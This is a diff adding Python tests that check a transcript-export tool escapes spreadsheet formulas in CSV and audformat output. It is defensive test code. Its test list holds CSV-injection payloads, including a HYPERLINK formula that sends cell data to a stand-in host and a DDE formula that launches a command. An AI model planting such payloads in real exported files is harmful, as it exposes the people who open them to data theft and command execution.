@@ -15,8 +15,9 @@ import streamser
 from streamser.errors import StreamserError
 from streamser.export.audformat import to_audformat
 from streamser.export.records import Recording
-from streamser.export.table import columns_of, rows_of, to_csv
-from streamser.taxonomy import CATEGORIES
+from streamser.export.table import columns_of, csv_line, rows_of, to_csv
+from streamser.export.text import as_text, said_by
+from streamser.taxonomy import CATEGORIES, DIMENSIONS
 from tests.cli.running import run
 from tests.export.script import Script, gathered, odd_texts, saved
 
@@ -74,11 +75,66 @@ def test_sessions_stand_one_after_another() -> None:
 
 @given(odd_texts(), odd_texts())
 def test_any_text_comes_back_from_csv(text: str, name: str) -> None:
-    """Commas, quotes, line breaks: to the last character."""
+    """Commas, quotes, line breaks: to the last character, but for the guard of formulas."""
     script = Script(speaker=name)
     script.say(1000, 2000, text)
     (row,) = rows(gathered(script.close()))
-    assert (row["transcript"], row["speaker"]) == (text, name)
+    assert (row["transcript"], row["speaker"]) == (as_text(text), as_text(name))
+
+
+_FORMULAS = (
+    '=HYPERLINK("http://x.example/?"&A1,"open")',
+    "+cmd|' /C calc'!A0",
+    "-2+3",
+    "@SUM(A1:A9)",
+    "\t=1+1",
+    "\r=1+1",
+    "\n=1+1",
+    "＝1+1",
+    "＋1",
+    "－1",
+    "＠SUM(A1)",
+)
+
+
+@pytest.mark.parametrize("text", _FORMULAS)
+def test_nothing_that_people_say_is_a_formula(text: str) -> None:
+    """Names and words come from anybody, and table programs run what looks like a formula."""
+    script = Script(speaker=text, source=text)
+    script.say(1000, 2000, text, text, scores={text: 0.9, "b": 0.1})
+    script.fail(3000, 4000, text)
+    recording = gathered(script.close())
+    said, failed = rows(recording)
+    for name in ("file", "category", "transcript", "speaker"):
+        assert said[name] == f"'{text}", name
+    assert failed["problem"] == as_text(" ".join(text.split()))
+    for table in tables(to_audformat(recording)).values():
+        assert not any(cell.startswith(tuple("=+-@\t\r\n＝＋－＠")) for cell in _words_of(table))
+
+
+def test_numbers_below_nothing_stay_numbers() -> None:
+    """A table of valences is there to be reckoned with."""
+    assert csv_line([-0.25, "-0.25"]) == "-0.25,'-0.25\n"
+
+
+@given(odd_texts())
+def test_the_guard_of_formulas_can_be_taken_away(text: str) -> None:
+    """One apostrophe less, where one was put."""
+    for each in (text, f"={text}", f"'={text}", f"''{text}"):
+        assert said_by(as_text(each)) == each
+
+
+def test_a_file_whose_name_is_a_formula_is_still_that_file() -> None:
+    """Tables and sound are joined by it in audformat."""
+    script = Script(source="=1+1.wav")
+    script.say(1000, 2000)
+    found = tables(to_audformat(gathered(script.close())))
+    assert [row["file"] for row in found["categories"]] == ["./=1+1.wav"]
+
+
+def _words_of(table: list[dict[str, str]]) -> list[str]:
+    numbers = (*DIMENSIONS, "confidence")
+    return [cell for row in table for name, cell in row.items() if name not in numbers]
 
 
 def test_without_pandas_there_are_records(
